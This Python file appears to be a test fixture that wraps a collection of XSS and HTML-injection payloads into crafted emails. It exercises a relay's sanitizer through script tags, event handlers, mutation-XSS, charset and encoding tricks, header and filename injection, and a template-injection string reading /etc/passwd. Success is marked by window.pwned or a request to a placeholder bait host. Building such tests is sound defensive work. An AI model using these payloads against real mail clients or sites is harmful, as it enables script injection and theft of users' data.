"""Mails that want something of the page: each payload tries to set `window.pwned`, or to load from BAIT."""

# ruff: noqa: E501  # a payload is easier to read in one line

from collections.abc import Iterator
from email.message import EmailMessage
from email.policy import SMTP

BAIT = "http://bait.invalid/hit"
_RUN = "window.pwned=1"

PAYLOADS: dict[str, str] = {
    "script": f"<script>{_RUN}</script>",
    "script from elsewhere": f"<script src={BAIT}></script>",
    "script that ends the page": f"</textarea></title></style></pre></bdi></article></main><script>{_RUN}</script>",
    "picture with an error": f"<img src=x onerror={_RUN}>",
    "picture from elsewhere": f"<img src={BAIT}>",
    "picture sets": f"<picture><source srcset={BAIT}><img srcset='{BAIT} 2x'></picture>",
    "closed attribute": f"'\"><img src={BAIT} onerror={_RUN}>",
    "javascript link": f"<a href='javascript:{_RUN}' autofocus onfocus={_RUN}>click</a>",
    "javascript link with a tab": f"<a href='java\tscript:{_RUN}'>click</a>",
    "data link": f"<a href='data:text/html,<script>parent.{_RUN}</script>'>click</a>",
    "link with ping": f"<a href='#' ping={BAIT}>click</a>",
    "svg": f"<svg onload={_RUN}><script>{_RUN}</script><image href={BAIT} /></svg>",
    "svg animation": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s><set attributeName=href to={BAIT}></svg>",
    "svg use": f"<svg><use href='{BAIT}#x'></use></svg>",
    "refresh": f"<meta http-equiv=refresh content='0;url={BAIT}'>",
    "weaker policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "base": f"<base href={BAIT}/><a href=x>click</a>",
    "form": f"<form action={BAIT}><input name=q autofocus onfocus={_RUN}><button>send</button></form>",
    "button of another form": f"<button form=x formaction={BAIT}>send</button>",
    "frame": f"<iframe src={BAIT}></iframe>",
    "frame with its own text": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "frameset": f"<frameset onload={_RUN}><frame src={BAIT}></frameset>",
    "style": f"<style>@import url({BAIT}); body {{ background: url({BAIT}) }} main {{ display: none }}</style>",
    "style attribute": f"<p style='background:url({BAIT});position:fixed;inset:0'>over all</p>",
    "style sheet": f"<link rel=stylesheet href={BAIT}><link rel=prefetch href={BAIT}><link rel=dns-prefetch href={BAIT}>",
    "preload": f"<link rel=preload as=image href={BAIT}><link rel=modulepreload href={BAIT}>",
    "object": f"<object data={BAIT}><embed src={BAIT}></object><applet code={BAIT}></applet>",
    "sound and film": f"<video src={BAIT} poster={BAIT} onerror={_RUN}></video><audio src={BAIT} autoplay></audio>",
    "track": f"<video><source src={BAIT}><track src={BAIT} default></video>",
    "background": f"<body background={BAIT} onload={_RUN}><table background={BAIT}><tr><td background={BAIT}>x</table>",
    "details that open": f"<details open ontoggle={_RUN}>x</details>",
    "marquee": f"<marquee onstart={_RUN}>x</marquee>",
    "event on the page": f"<div onpointerrawupdate={_RUN} onmouseover={_RUN} style='position:fixed;inset:0'>x</div>",
    "popover": f"<button popovertarget=x>x</button><div popover id=x onbeforetoggle={_RUN}>x</div>",
    "mutation: math and style": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    "mutation: svg and style": f"<svg></p><style><a id='</style><img src=1 onerror={_RUN}>'>",
    "mutation: noscript": f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    "mutation: template": f"<template><p id='</template><img src=x onerror={_RUN}>'>",
    "mutation: select": f"<select><template><style><!--</style><a rel='--></style></select><img id=x src onerror={_RUN}>'>",
    "mutation: form in form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    "mutation: cdata": f"<svg><![CDATA[><img src=x onerror={_RUN}>]]></svg>",
    "comment that never ends": f"<!--><img src=x onerror={_RUN}>-->",
    "conditional comment": f"<!--[if true]><img src={BAIT} onerror={_RUN}><![endif]-->",
    "processing instruction": f"<?xml-stylesheet href='{BAIT}'?><x onclick={_RUN}>x</x>",
    "entities": f"&lt;img src={BAIT} onerror={_RUN}&gt;&#60;script&#62;{_RUN}&#60;/script&#62;",
    "names of the page's elements": f"<form id=news name=getElementById class=write><input name=elements id=offline>{_RUN}</form>",
    "region of the page": "<div data-region=relay data-column=buyer data-news=pwned>mine now</div>",
    "template language": "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}",
    "nul characters": f"<scr\0ipt>{_RUN}</scr\0ipt><img\0 src={BAIT} onerror\0={_RUN}>",
    "other direction": f"\u202e\u2066<img src={BAIT} onerror={_RUN}>\u2069",
}


def mails(to: str, *, svg: bool = True) -> Iterator[tuple[str, bytes]]:
    """A mail for each payload, with it in every place that a mail has. svg: also as a drawing, which the relay
    does not pass on unless it is one."""
    for name, payload in PAYLOADS.items():
        yield name, mail(payload, to, svg=svg)
    yield (
        "utf-7",
        raw_mail(to, b"text/html; charset=utf-7", f"+ADw-img src={BAIT} onerror={_RUN}+AD4-".encode()),
    )
    yield (
        "utf-16",
        raw_mail(to, b"text/html; charset=utf-16", f"<img src={BAIT} onerror={_RUN}>".encode("utf-16")),
    )
    yield (
        "iso-2022-jp",
        raw_mail(
            to, b"text/html; charset=iso-2022-jp", b"\x1b(J<img src=\x1b$B\x1b(B onerror=window.pwned=1>"
        ),
    )
    yield (
        "unknown charset",
        raw_mail(to, b"text/html; charset=x-none", b"\xff\xfe<script>window.pwned=1</script>"),
    )
    yield (
        "wrong base64",
        raw_mail(to, b"text/html\r\nContent-Transfer-Encoding: base64", b"PHNjcmlwdD4=PHNjcmlwdD4\x80"),
    )
    yield "no mail at all", b"\x00<script>window.pwned=1</script>\xff"
    yield (
        "multipart without an end",
        raw_mail(
            to,
            b"multipart/mixed; boundary=b",
            b"--b\r\nContent-Type: text/html\r\n\r\n<script>window.pwned=1</script>",
        ),
    )
    yield (
        "addresses that are none",
        b"From: <[1.2\r\nTo: ,;:<<>\r\nSubject: =?utf-8?b?PHNjcmlwdD4?=\r\nDate: Mon, 99 Foo\r\n\r\n<script>",
    )


def mail(payload: str, to: str, *, svg: bool = True) -> bytes:
    line = " ".join(payload.replace("\0", "").split())
    made = EmailMessage(policy=SMTP)
    made["From"] = '"{}" <evil@bait.example>'.format(line.replace("\\", "").replace('"', "'"))
    made["To"], made["Subject"] = to, line
    made.set_content(payload.replace("\0", ""))
    made.add_alternative(payload, subtype="html")
    made.add_attachment(payload.encode(), maintype="text", subtype="html", filename=line)
    if svg:
        made.add_attachment(payload.encode(), maintype="image", subtype="svg+xml", filename="a.svg")
    return made.as_bytes()


def raw_mail(to: str, content_type: bytes, body: bytes) -> bytes:
    head = f"From: evil@bait.example\r\nTo: {to}\r\nSubject: x\r\nContent-Type: ".encode()
    return head + content_type + b"\r\n\r\n" + body
